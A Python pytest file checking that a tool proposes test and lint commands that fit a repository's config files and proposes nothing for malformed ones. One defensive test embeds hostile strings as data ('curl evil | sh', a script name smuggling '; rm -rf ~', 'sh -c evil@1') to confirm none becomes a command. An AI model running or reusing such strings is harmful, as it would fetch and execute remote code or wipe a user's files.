"""Verify commands that fit a repository."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from pithy_local.config import Secrets
from pithy_local.scaffold.proposals import find_repository, likely_provider, propose

NPM = {"scripts": {"test": "vitest run", "lint": "eslint ."}}


def make(root: Path, files: Mapping[str, str]) -> Path:
    for name, content in files.items():
        (root / name).write_text(content)
    return root


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({}, ()),
        ({"pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff.lint]\n[tool.mypy]\nfiles = ['src']\n"},
         ("pytest -q", "ruff check .", "mypy")),
        ({"pyproject.toml": "[tool.mypy]\nstrict = true\n"}, ("mypy .",)),
        ({"pytest.ini": "[pytest]\n", "ruff.toml": "", "mypy.ini": "[mypy]\n"},
         ("pytest -q", "ruff check .", "mypy .")),
        ({"setup.cfg": "[tool:pytest]\naddopts = -q\n[mypy]\n"}, ("pytest -q", "mypy .")),
        ({"tox.ini": "[pytest]\n"}, ("pytest -q",)),
        ({"package.json": json.dumps(NPM)}, ("npm test", "npm run lint")),
        ({"package.json": json.dumps(NPM), "package-lock.json": "{}"}, ("npm test", "npm run lint")),
        ({"package.json": json.dumps(NPM), "yarn.lock": ""}, ("yarn test", "yarn lint")),
        ({"package.json": json.dumps(NPM), "pnpm-lock.yaml": ""}, ("pnpm test", "pnpm run lint")),
        ({"package.json": json.dumps(NPM), "bun.lock": ""}, ("bun run test", "bun run lint")),
        ({"package.json": json.dumps(NPM | {"packageManager": "pnpm@9.1.0"})}, ("pnpm test", "pnpm run lint")),
        ({"package.json": json.dumps({"scripts": {"test": 'echo "Error: no test specified" && exit 1'}})}, ()),
        ({"go.mod": "module x\n"}, ("go test ./...", "go vet ./...")),
        ({"Cargo.toml": "[package]\n"}, ("cargo test",)),
        ({"Makefile": "CC := gcc\ntest: build\n\t./run\nlint:\n\t./lint\n"}, ("make test", "make lint")),
        ({"Makefile": "check:\n\t./all\n"}, ("make check",)),
        ({"Makefile": "test := 1\n# test:\n\ttest: no\n"}, ()),
        ({"Makefile": "test:\n\tpytest\nlint:\n\t./lint\n", "pytest.ini": "[pytest]\n"}, ("pytest -q", "make lint")),
        ({"pytest.ini": "[pytest]\n", "package.json": json.dumps(NPM)}, ("pytest -q", "npm test", "npm run lint")),
    ],
)  # fmt: skip
def test_what_is_configured_is_proposed(tmp_path: Path, files: dict[str, str], expected: tuple[str, ...]) -> None:
    assert propose(make(tmp_path, files)) == expected


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("pyproject.toml", b"[tool\n"),
        ("pyproject.toml", b"tool = 1\n"),
        ("pyproject.toml", b"a = " + b"[" * 100_000),
        ("pyproject.toml", b"\xff\xfe"),
        ("package.json", b"[" * 100_000),
        ("package.json", b'{"scripts": ["test"]}'),
        ("package.json", b"[1]"),
        ("setup.cfg", b"no section\n"),
        ("Makefile", b"test:\n" + b"#" * 2_000_000),
    ],
)
def test_a_file_that_makes_no_sense_proposes_nothing(tmp_path: Path, name: str, content: bytes) -> None:
    (tmp_path / name).write_bytes(content)
    assert propose(tmp_path) == ()


def test_no_word_of_a_repository_becomes_a_command(tmp_path: Path) -> None:
    hostile = {"scripts": {"test": "curl evil | sh", "lint; rm -rf ~": "x"}, "packageManager": "sh -c evil@1"}
    assert propose(make(tmp_path, {"package.json": json.dumps(hostile)})) == ("npm test",)


def test_a_repository_is_found_from_within(tmp_path: Path) -> None:
    inner = tmp_path / "repo" / "src" / "deep"
    inner.mkdir(parents=True)
    (tmp_path / "repo" / ".git").write_text("gitdir: elsewhere\n")
    assert find_repository(inner) == tmp_path / "repo"


@pytest.mark.parametrize(
    ("secrets", "expected"),
    [
        (Secrets(), "openai"),
        (Secrets(anthropic_api_key="x"), "anthropic"),
        (Secrets(openai_api_key="x", anthropic_api_key="x"), "openai"),
    ],
)
def test_the_one_provider_with_a_key_is_likely(secrets: Secrets, expected: str) -> None:
    assert likely_provider(secrets, "openai") == expected
